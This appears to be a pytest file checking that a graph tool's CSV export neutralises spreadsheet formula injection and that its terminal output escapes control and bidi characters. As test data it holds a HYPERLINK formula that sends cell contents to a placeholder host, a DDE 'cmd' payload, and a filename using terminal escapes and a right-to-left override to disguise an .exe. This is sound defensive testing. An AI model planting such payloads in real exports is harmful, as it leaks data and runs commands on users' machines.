"""Hostile text on its way out: spreadsheet formulas, terminal control characters."""

from __future__ import annotations

import csv
import io
import json

import pytest

from graphkit.present.output import spreadsheet_cell

FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'


@pytest.mark.parametrize(("text", "safe"), [
    (FORMULA, "'" + FORMULA),
    ("+1+2", "'+1+2"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("OpenAI", "OpenAI"),
    ("", ""),
    ("a=b", "a=b"),
])
def test_spreadsheet_cells_never_start_a_formula(text, safe):
    assert spreadsheet_cell(text) == safe


def _plant(folder, description: str, name: str = "Acme AI") -> None:
    path = folder / "entities.json"
    document = json.loads(path.read_text(encoding="utf-8"))
    for entity in document["entities"]:
        if entity["id"] == "acme":
            entity["description"] = description
            entity["name"] = name
    path.write_text(json.dumps(document, ensure_ascii=False), encoding="utf-8")


def test_export_csv_neutralises_formulas(tiny_copy, tmp_path, run_cli):
    _plant(tiny_copy, FORMULA, name="@Acme")
    out = tmp_path / "csv"
    result = run_cli("export", "--format", "csv", "--out", str(out), data=tiny_copy)
    assert result.exit_code == 0, result.output
    nodes = list(csv.DictReader(io.StringIO(
        (out / "nodes.csv").read_bytes().decode("utf-8-sig"), newline="")))
    acme = next(row for row in nodes if row["id"] == "acme")
    assert acme["description"] == "'" + FORMULA
    assert acme["name"] == "'@Acme"
    edges = list(csv.DictReader(io.StringIO(
        (out / "edges.csv").read_bytes().decode("utf-8-sig"), newline="")))
    named = {row["source_name"] for row in edges} | {row["target_name"] for row in edges}
    assert "'@Acme" in named and "@Acme" not in named
    # Numbers stay numbers.
    assert all(not row["amount_value"].startswith("'") for row in edges)


def test_flow_csv_neutralises_formulas(tiny_copy, run_cli):
    _plant(tiny_copy, "plain", name="=cmd|' /C calc'!A0")
    result = run_cli("flow", "--csv", data=tiny_copy)
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.output)))
    assert "'=cmd|' /C calc'!A0" in {row["from_name"] for row in rows}
    assert not any(value.startswith("=") for row in rows for value in row.values())



@pytest.mark.parametrize("text", ["=1", "'=1", "''+x", "'", "'plain", "plain", "-", ""])
def test_neutralising_can_be_undone(text):
    from graphkit.present.output import spreadsheet_text

    cell = spreadsheet_cell(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert spreadsheet_text(cell) == text


HOSTILE_NAME = "Evil\x1b]0;pwned\x07Co\u202egnp.exe\x9b"


def test_text_output_escapes_control_and_bidi_characters_and_json_keeps_them(
        tiny_copy, run_cli):
    _plant(tiny_copy, "rings a bell\x07 and clears\x1b[2J", name=HOSTILE_NAME)
    for args in (("show", "acme"), ("search", "Evil"), ("neighbors", "acme"),
                 ("flow",), ("path", "acme", "alice")):
        result = run_cli(*args, data=tiny_copy)
        assert result.exit_code == 0, (args, result.output)
        for raw in ("\x1b", "\x07", "\u202e", "\x9b"):
            assert raw not in result.output, (args, raw)
        assert "Evil\\x1b]0;pwned\\x07Co\\u202egnp.exe\\x9b" in result.output, args
    as_json = run_cli("show", "acme", "--json", data=tiny_copy)
    card = json.loads(as_json.stdout)
    assert card["entity"]["name"] == HOSTILE_NAME
    assert card["entity"]["description"] == "rings a bell\x07 and clears\x1b[2J"


def test_error_messages_escape_control_characters(run_cli):
    result = run_cli("show", "nobody\x1b[2J\u202e")
    assert result.exit_code == 2
    assert "\x1b" not in result.output and "\u202e" not in result.output
